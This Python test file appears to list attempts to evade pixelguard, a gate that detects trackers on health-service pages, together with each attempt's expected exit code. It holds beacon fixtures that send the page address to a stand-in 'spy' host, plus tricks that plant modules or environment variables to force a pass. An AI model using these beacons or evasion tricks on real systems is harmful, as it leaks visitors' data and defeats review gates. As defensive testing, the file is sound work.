"""Ways to want the gate green without mending the page: by the configuration, the repository, the environment."""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from tests.hostile.cases import PIXEL

BASE = 'origin = "https://www.example.nhs.uk"\nsite = "site"\nstates = ["no-choice"]\n'
_UNNAMED = 'site = "site"\nstates = ["no-choice"]\n'
_QUIET = "<html lang=en><title>A</title><h1>A</h1>"
_LOAD = (
    "window.fbq=window.fbq||function(){fbq.queue.push(arguments)};fbq.queue=[];"
    "var s=document.createElement('script');s.src='https://connect.facebook.net/en_US/fbevents.js';"
    f"document.head.appendChild(s);{PIXEL}"
)
LEAK = f"{_QUIET}<script>{_LOAD}</script>"
_SPY = f"{_QUIET}<script>new Image().src = 'https://spy.tp.example/b?' + location.href</script>"
_HOTJAR = f"{_QUIET}<script src='https://static.hotjar.com/c/hotjar-1234567.js?sv=6'></script>"
_GTM = f"{_QUIET}<script async src='https://www.googletagmanager.com/gtm.js?id=GTM-ABC1234'></script>"
_CONTAINER = (
    'var data = {"resource":{"version":"1","macros":[],"tags":[],"predicates":[],"rules":[]},"runtime":[]};'
    "/* GTM-ABC1234 */"
)
_EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
_ALLOWED = "".join(
    f'[[allow]]\nrule = "{rule}"\nvendor = "meta-pixel"\nstatement = "s"\nowner = "o"\nexpires = {{expires}}\n'
    for rule in ("PXG101", "PXG104", "PXG201", "PXG209")
)
_EXIT = "raise SystemExit(0)\n"
_KNOWN = (("baseline", "-q"),)
_PASSED: dict[str, Any] = {
    "schema_version": "1",
    "tool": {"name": "pytest-pixelguard", "version": "0"},
    "verdict": "pass",
    "exit_code": 0,
    "site": {"kind": "folder", "target": "site", "origin": "https://www.example.nhs.uk", "first_party": []},
    "coverage": {
        "files_inspected": 0,
        "bytes_inspected": 0,
        "files_skipped": [],
        "routes": [],
        "routes_skipped": [],
        "banners": {},
        "self_test": {"passed": False, "kinds": 0, "missed": []},
        "files": [],
        "pages": {},
    },
    **{name: [] for name in ("gaps", "findings", "requests", "suppressed", "stored")},
    "stages": {},
    "shard": None,
}
_SAID = "**passes, and every report says so**"
_NOT = "**not stopped**"


@dataclass(frozen=True, slots=True, kw_only=True)
class Try:
    """One way. `code` is the exit code that it ends with, `told` what the report says of it.

    `before` are commands of ours that are run first; then `later` is written over the files. `{root}` stands for the
    folder of the try, and `{chromium}` for the browser, in texts of `environment` and `programs`.
    """

    what: str
    code: int
    note: str = ""
    told: str = ""
    configuration: str | None = BASE
    page: str = "news.html"
    text: str = LEAK
    files: Mapping[str, str] = field(default_factory=dict)
    programs: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    before: tuple[tuple[str, ...], ...] = ()
    later: Mapping[str, str] = field(default_factory=dict)
    environment: Mapping[str, str] = field(default_factory=dict)
    arguments: tuple[str, ...] = ("check",)
    program: str = "pixelguard"
    intact: tuple[str, ...] = ()  # files that must be afterwards as they were


def tries() -> tuple[Try, ...]:
    """Give what somebody who may change the repository, or the runner's environment, can try."""
    return (
        Try(what="nothing (what is compared with)", code=1),
        *_allowing(),
        *_knowing(),
        *_excluding(),
        *_replacing(),
        *_planting(),
        *_reports(),
        *_environment(),
        *_leaving_out(),
    )


def _allowing() -> Iterator[Try]:
    later, past = f"{datetime.now(tz=UTC).year + 1}-01-31", "2020-01-31"
    yield Try(
        what="calls Meta's hosts its own: `first_party`",
        code=1,
        note="its signature counts on own hosts too",
        configuration=BASE + 'first_party = ["connect.facebook.net", "www.facebook.com"]\n',
    )
    yield Try(
        what="calls an unknown receiver its own: `first_party`",
        code=0,
        text=_SPY,
        note=_SAID,
        told="the site\\u2019s own: spy.tp.example",
        configuration=BASE + 'first_party = ["spy.tp.example"]\n',
    )
    yield Try(what="calls every host its own", code=2, configuration=BASE + 'first_party = ["*"]\n')
    yield Try(
        what="calls every host of a top-level domain its own",
        code=2,
        configuration=BASE + 'first_party = ["*.example"]\n',
    )
    yield Try(
        what="gives the receiver as the site's own address: `origin`",
        code=0,
        text=_SPY,
        configuration=_UNNAMED + 'origin = "https://spy.tp.example"\n',
        note=f"{_SAID}: in the line `site`",
        told='"origin": "https://spy.tp.example"',
    )
    yield Try(
        what="names the receiver in the build's own `CNAME`, where no `origin` is configured",
        code=0,
        text=_SPY.replace("tp.example", "example.com"),
        configuration=_UNNAMED,
        files={"site/CNAME": "spy.example.com\n"},
        note=f"{_SAID}. Configure `origin`, and nothing is inferred",
        told="own host spy.example.com, from CNAME",
    )
    yield Try(
        what="names Meta's host in the build's own `CNAME`",
        code=1,
        configuration=_UNNAMED,
        files={"site/CNAME": "connect.facebook.net\n"},
        note="a host that a vendor uses is never inferred",
    )
    yield Try(
        what="allows it until next year",
        code=0,
        configuration=BASE + _ALLOWED.format(expires=later),
        note=f"{_SAID}, with statement and owner",
        told='"owner": "o"',
    )
    yield Try(
        what='allows every host: `host = "*"`',
        code=2,
        configuration=BASE + _ALLOWED.format(expires=later).replace('vendor = "meta-pixel"', 'host = "*"'),
    )
    yield Try(
        what="allows it, on a page about a condition",
        code=1,
        configuration=BASE + _ALLOWED.format(expires=later),
        page="hiv.html",
        note="no allowance covers a sensitive page unless it says so",
    )
    yield Try(what="allows it until a day that has passed", code=1, configuration=BASE + _ALLOWED.format(expires=past))
    yield Try(what="allows it for ever", code=2, configuration=BASE + _ALLOWED.format(expires="2099-01-31"))


def _knowing() -> Iterator[Try]:
    yield Try(
        what="records a baseline that covers everything",
        code=0,
        before=_KNOWN,
        note=f"{_SAID}: how many it holds, and what it hides",
        told="the baseline pixelguard-baseline.json holds",
    )
    yield Try(
        what="records one, of a page about a condition",
        code=1,
        before=_KNOWN,
        page="hiv.html",
        note="a baseline hides nothing on a sensitive page",
    )
    yield Try(what="records one, and adds another tracker", code=1, before=_KNOWN, later={"site/news.html": _HOTJAR})
    yield Try(
        what="records one, and loads the known tracker on one page more",
        code=1,
        before=_KNOWN,
        later={"site/more.html": LEAK},
    )
    yield Try(
        what="writes patterns into a baseline",
        code=2,
        note="an entry is one fingerprint",
        files={"pixelguard-baseline.json": json.dumps({"findings": [{"fingerprint": "*"}]})},
    )
    yield Try(
        what="plants a baseline inside the site",
        code=1,
        note="it lies beside the configuration, or counts not",
        before=_KNOWN,
        links={"site/pixelguard-baseline.json": "../pixelguard-baseline.json"},
        configuration=BASE + 'baseline = "none.json"\n',
        later={"none.json": '{"findings": []}'},
    )
    yield Try(
        what="locks it: `pixelguard lock`, or an edited lock file",
        code=1,
        before=(("lock",),),
        note="a lock says what may be loaded, and excuses no beacon",
    )


def _excluding() -> Iterator[Try]:
    quiet = {"site/index.html": _QUIET}
    yield Try(
        what="excludes every file",
        code=3,
        configuration=BASE + '[static]\nexclude = ["*"]\n',
        arguments=("inspect", "site"),
        note="nothing inspected is no pass",
    )
    yield Try(
        what="excludes every route",
        code=3,
        configuration=BASE + '[routes]\nexclude = ["*"]\n',
        arguments=("crawl",),
        note="nothing crawled is no pass",
    )
    yield Try(
        what="excludes the page alone, as a file and as a route",
        code=0,
        files=quiet,
        note=_SAID,
        told="1 file neither read nor opened, 1 of them pages, 0 sensitive: static.exclude",
        configuration=BASE + '[static]\nexclude = ["news.html"]\n[routes]\nexclude = ["/news.html"]\n',
    )
    yield Try(
        what="excludes a page about a condition so",
        code=0,
        files=quiet,
        page="hiv.html",
        note=f"{_SAID}, and that it is sensitive",
        told="1 file neither read nor opened, 1 of them pages, 1 sensitive: static.exclude",
        configuration=BASE + '[static]\nexclude = ["hiv.html"]\n',
    )
    yield Try(
        what="crawls one other page alone: `routes.paths`, `--route`",
        code=0,
        files=quiet,
        note=_SAID,
        arguments=("crawl", "--route", "/"),
        told="1 page not opened, for routes.paths or --route names others",
    )
    yield Try(
        what="crawls no state at all", code=3, configuration=BASE.replace('"no-choice"', ""), arguments=("crawl",)
    )
    yield Try(
        what="crawls only as a visitor who has accepted",
        code=0,
        note=_SAID,
        text=_SPY,
        configuration=BASE.replace("no-choice", "accepted"),
        arguments=("crawl",),
        told="no page was opened as it is before a visitor has made a choice: states",
    )
    yield Try(
        what="reads the files, and opens no page: `inspect` in place of `check`",
        code=0,
        note=_SAID,
        text=f"{_QUIET}<script>{'fetch(String.fromCharCode(104)+location)'}</script>",
        arguments=("inspect", "site"),
        told="no page was opened: what pages send once they run is not known",
    )
    yield Try(
        what="puts the page into a folder that is not read: `node_modules`",
        code=0,
        files=quiet,
        page="node_modules/a.html",
        note=_SAID,
        told="as a tool\\u2019s own store: site/node_modules",
    )
    yield Try(
        what="puts it into the site's own `pixelguard-report`",
        code=0,
        files=quiet,
        page="pixelguard-report/a.html",
        note=_SAID,
        told="as a tool\\u2019s own store: site/pixelguard-report",
    )


def _replacing() -> Iterator[Try]:
    yield Try(
        what="supplies an empty container in place of the live one",
        code=1,
        text=_GTM,
        note="to load it before a choice is a finding, and it is said whose copy was read",
        files={"gtm.js": _CONTAINER},
        told="containers are judged by the team\\u2019s own copies: GTM-ABC1234",
        configuration=BASE + '[[container]]\nid = "GTM-ABC1234"\nfile = "gtm.js"\n',
    )
    yield Try(
        what="supplies an empty recording in place of Meta's script",
        code=1,
        files={"empty.js": ""},
        note="its loader is a finding",
        configuration=f'{BASE}[[replay]]\nfile = "empty.js"\nsha256 = "{_EMPTY_SHA256}"\n'
        'url = "https://connect.facebook.net/en_US/fbevents.js"\n',
    )
    yield Try(
        what="supplies a recording with another content than its hash says",
        code=2,
        files={"empty.js": "fbq()"},
        configuration=f'{BASE}[[replay]]\nfile = "empty.js"\n'
        f'sha256 = "{_EMPTY_SHA256}"\nurl = "https://connect.facebook.net/en_US/fbevents.js"\n',
    )
    yield Try(
        what="brings knowledge of vendors of its own",
        code=2,
        configuration=BASE + 'vendors = ["own.toml"]\n',
        note="there is no such key: what is a tracker is not configured",
    )


def _planting() -> Iterator[Try]:
    modules = ("click", "json", "asyncio", "sitecustomize", "conftest", "playwright", "turbohtml", "pytest_pixelguard")
    yield Try(
        what="plants Python modules, a `conftest.py` and a `sitecustomize.py` in the working directory",
        code=1,
        files={f"{name}.py": _EXIT for name in modules},
    )
    yield Try(what="plants them in the built folder", code=1, files={f"site/{name}.py": _EXIT for name in modules})
    yield Try(
        what="plants a `pixelguard.toml` in the built folder, beside the team's own",
        code=1,
        files={"site/pixelguard.toml": '[static]\nexclude = ["news.html"]\n'},
        arguments=("check", "site"),
    )
    yield Try(
        what="plants one where the team has none",
        code=0,
        configuration=None,
        note=_SAID,
        files={"site/pixelguard.toml": '[static]\nexclude = ["news.html"]\n', "site/index.html": _QUIET},
        arguments=("check", "site", "--state", "no-choice", "--route", "/"),
        told="the configuration site/pixelguard.toml lies in the site itself",
    )


def _reports() -> Iterator[Try]:
    yield Try(
        what="links the report's folder elsewhere",
        code=1,
        links={"pixelguard-report": "elsewhere"},
        files={"elsewhere/kept": "x"},
        arguments=("check", "--report-dir", "pixelguard-report"),
        note="six files of fixed names are written there",
        intact=("elsewhere/kept",),
    )
    yield Try(
        what="links a report's file to the configuration",
        code=1,
        links={"a.json": "pixelguard.toml"},
        arguments=("inspect", "site", "--report", "json=a.json"),
        intact=("pixelguard.toml",),
        note="the link is replaced, not followed",
    )
    yield Try(
        what="puts a report of a pass where reports are written",
        code=1,
        files={"pixelguard-report/pixelguard.json": json.dumps(_PASSED)},
        arguments=("check", "--report-dir", "pixelguard-report"),
        note="it is written anew",
    )
    yield Try(
        what="hands in a report in which nothing was examined: `merge`",
        code=3,
        arguments=("merge", "shard.json"),
        files={"shard.json": json.dumps(_PASSED)},
    )
    yield Try(
        what="hands in a report with a failed self-test",
        code=3,
        arguments=("merge", "shard.json"),
        files={"shard.json": json.dumps(_claimed(passed=False))},
    )
    yield Try(
        what="hands in a made-up report that claims work",
        code=0,
        arguments=("merge", "shard.json"),
        files={"shard.json": json.dumps(_claimed(passed=True))},
        note=f"{_NOT}: `merge` believes reports, as it must. Let only jobs of the same run hand them in",
    )


def _claimed(*, passed: bool) -> dict[str, Any]:
    test = {"passed": passed, "kinds": 13, "missed": []}
    return {**_PASSED, "coverage": {**_PASSED["coverage"], "files_inspected": 9, "self_test": test}}


def _environment() -> Iterator[Try]:
    crawl = ("crawl",)
    blind = '#!/bin/sh\nexec {chromium} "$@" --blink-settings=scriptEnabled=false\n'
    no_pictures = '#!/bin/sh\nexec {chromium} "$@" --blink-settings=imagesEnabled=false\n'
    proxies = dict.fromkeys(("HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY"), "http://127.0.0.1:9") | {"NO_PROXY": "*"}
    path = {"PATH": "{root}/bin:/usr/bin:/bin"}
    yield Try(
        what="names a program that is no browser: `PIXELGUARD_CHROMIUM`",
        code=3,
        arguments=crawl,
        environment={"PIXELGUARD_CHROMIUM": "/bin/true"},
    )
    yield Try(
        what="puts a program that is no browser first on the PATH, as `chromium`",
        code=3,
        arguments=crawl,
        programs={"bin/chromium": "#!/bin/sh\nexit 0\n"},
        environment=path,
    )
    yield Try(
        what="puts a browser there that runs no script",
        code=3,
        arguments=crawl,
        programs={"bin/chromium": blind},
        environment=path,
        note="it does not see the engine's own test page",
    )
    yield Try(
        what="puts a browser there that loads no picture",
        code=3,
        arguments=crawl,
        programs={"bin/chromium": no_pictures},
        environment=path,
        note="as above",
    )
    yield Try(
        what="sets proxies in the environment, and excepts all hosts from them",
        code=1,
        arguments=crawl,
        environment=proxies,
    )
    yield Try(
        what="lets Playwright's process end at once: `NODE_OPTIONS`",
        code=3,
        arguments=crawl,
        files={"end.js": "process.exit(0)\n"},
        environment={"NODE_OPTIONS": "--require {root}/end.js"},
    )
    yield Try(
        what="names an empty folder of browsers: `PLAYWRIGHT_BROWSERS_PATH`",
        code=1,
        arguments=crawl,
        environment={"PLAYWRIGHT_BROWSERS_PATH": "{root}"},
        note="the machine's own browser is taken",
    )
    yield Try(
        what="sets what debugs Playwright: `PWDEBUG`, `DEBUG`",
        code=1,
        arguments=crawl,
        environment={"PWDEBUG": "console", "DEBUG": "pw:*"},
    )
    yield Try(
        what="sets `PYTHONPATH` to a `sitecustomize.py`",
        code=0,
        environment={"PYTHONPATH": "{root}/evil"},
        files={"evil/sitecustomize.py": "import os\nos._exit(0)\n"},
        note=f"{_NOT}: whoever sets it runs code in every Python program. The Action needs no such variable",
    )


def _leaving_out() -> Iterator[Try]:
    test = {"test_ok.py": "def test_ok(): pass\n"}
    yield Try(
        what="asks for exit code 0: `--exit-zero`",
        code=0,
        arguments=("check", "--exit-zero"),
        note=f"{_SAID}: 1 becomes 0, as asked; gaps stay 3",
        told="errors do not fail this run: --exit-zero",
    )
    yield Try(
        what="turns the plug-in of pytest off in `pytest.ini`",
        code=4,
        program="pytest",
        files={"pytest.ini": "[pytest]\naddopts = -p no:pixelguard\n", **test},
        arguments=("--pixelguard",),
    )
    yield Try(
        what="deselects the gate's tests in `pytest.ini`",
        code=0,
        program="pytest",
        files={"pytest.ini": "[pytest]\naddopts = -k test_ok\n", **test},
        arguments=("--pixelguard",),
        told="verdict: NONE: no test of the gate was run",
        note=("**passes, and the session's summary says so**. The command does not read `pytest.ini`"),
    )
    yield Try(
        what="takes them away in `conftest.py`",
        code=0,
        program="pytest",
        arguments=("--pixelguard",),
        files={"conftest.py": "def pytest_collection_modifyitems(items):\n    del items[1:]\n", **test},
        told="verdict: NONE: no test of the gate was run",
        note="**passes, and the session's summary says so**; a `conftest.py` can hide that line too",
    )
